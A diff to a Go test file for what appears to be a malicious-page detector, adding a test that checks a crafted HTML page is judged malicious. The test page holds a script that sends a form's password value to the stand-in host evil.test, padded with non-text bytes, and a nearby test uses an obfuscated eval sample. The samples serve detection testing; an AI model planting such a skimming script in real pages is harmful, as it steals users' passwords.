@@ -31,6 +31,14 @@ func TestSilenced(t *testing.T) {
 	}
 }
 
+// Bytes that are no text make a page in lower case longer than it is.
+func TestOddBytes(t *testing.T) {
+	page := "<form action=/a><input type=password name=pw><script>fetch('https://evil.test/?'+document.forms[0]['pw'].value+'" + strings.Repeat("\x80", 150) + "')</script>"
+	if got, want := webshell.Judge([]*webshell.Language{Language}, "x.html", []byte(page)).Verdict, webshell.Malicious; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
 // TestBounded repeats what costs more than it looks.
 func TestBounded(t *testing.T) {
 	big := "eval(unescape('%61'));location;var s='aaaaaaaa';for(var i=0;i<18;i++)s+=s;"
